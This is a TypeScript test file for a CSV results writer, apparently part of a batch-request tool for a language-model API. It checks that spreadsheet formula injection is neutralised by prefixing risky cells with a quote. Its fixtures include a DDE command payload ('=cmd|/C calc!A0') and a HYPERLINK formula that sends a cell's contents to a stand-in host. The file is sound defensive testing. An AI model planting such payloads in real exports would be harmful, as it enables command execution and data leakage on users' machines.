import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { buildBatchFromData, commitBuild, csvRow, openDataSource, parseTemplate, readSourceLink, writeResultsCsv } from '../../../src/domain/data';
import { tempDir, writeData } from './helpers';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** The cells a spreadsheet reads back from one written row. */
function cellsOf(row: string): string[] {
  const rows = parse(row, { relax_column_count: true }) as string[][];
  assert.equal(rows.length, 1, `one row: ${JSON.stringify(row)}`);
  return rows[0];
}

describe('data: results CSV against formula injection', () => {
  it('no written cell starts with a character a spreadsheet reads as a formula, and each keeps its text after one quote', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', '1', '.', 'e', 'a') }),
      fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        const read = cellsOf(csvRow(cells));
        assert.equal(read.length, cells.length);
        read.forEach((got, i) => {
          const wrote = cells[i];
          if (PLAIN_NUMBER.test(wrote)) return assert.equal(got, wrote, 'a plain number stays a number');
          assert.ok(!TRIGGERS.includes(got.charAt(0)), `cell ${JSON.stringify(got)} starts with a formula character`);
          assert.equal(got, TRIGGERS.includes(wrote.charAt(0)) ? `'${wrote}` : wrote);
        });
      }),
      { numRuns: 1000 },
    );
  });

  it('guards the data columns, their names, the answers and the error messages, and leaves plain numbers as numbers', async () => {
    const dir = tempDir('injection');
    const data = writeData(dir, 'd.csv', 'id,=cmd|/C calc!A0,n\na,"=HYPERLINK(""http://x.test/?""&A1,""click"")",-12\nb,@SUM(1+1),+3.5\nc,"\tlead",-1+2\n');
    const template = parseTemplate(JSON.stringify({ params: { model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: 'Say {{n}}' }] }, options: { customIdColumn: 'id' } }));
    const output = path.join(dir, 'd.batch.jsonl');
    await commitBuild(await buildBatchFromData({ source: await openDataSource(data), template, output, onBad: 'skip' }), { overwrite: false });
    const results = [
      { custom_id: 'a', result: { type: 'succeeded', message: { content: [{ type: 'text', text: '=1+1' }], stop_reason: 'end_turn', usage: { input_tokens: 1, output_tokens: 2 } } } },
      { custom_id: 'b', result: { type: 'errored', error: { type: 'error', error: { type: 'invalid_request_error', message: '-2+3 is not allowed' } } } },
      { custom_id: 'c', result: { type: 'succeeded', message: { content: [{ type: 'text', text: '\r=2' }], stop_reason: 'end_turn', usage: { input_tokens: 1, output_tokens: 2 } } } },
    ];
    const resultsPath = writeData(dir, 'results.jsonl', results.map((r) => JSON.stringify(r)).join('\n') + '\n');
    const csvOut = path.join(dir, 'd.results.csv');
    await writeResultsCsv({ resultsPaths: [resultsPath], link: (await readSourceLink(output))!, source: await openDataSource(data), output: csvOut });
    const rows = parse(fs.readFileSync(csvOut, 'utf8')) as string[][];
    assert.deepEqual(rows[0].slice(0, 3), ['id', "'=cmd|/C calc!A0", 'n']);
    assert.deepEqual(
      rows.slice(1).map((r) => [r[1], r[2], r[3], r[4], r[6]]),
      [
        ['\'=HYPERLINK("http://x.test/?"&A1,"click")', '-12', 'succeeded', "'=1+1", ''],
        ["'@SUM(1+1)", '+3.5', 'errored', '', "'-2+3 is not allowed"],
        ["'\tlead", "'-1+2", 'succeeded', "'\r=2", ''],
      ],
    );
  });
});
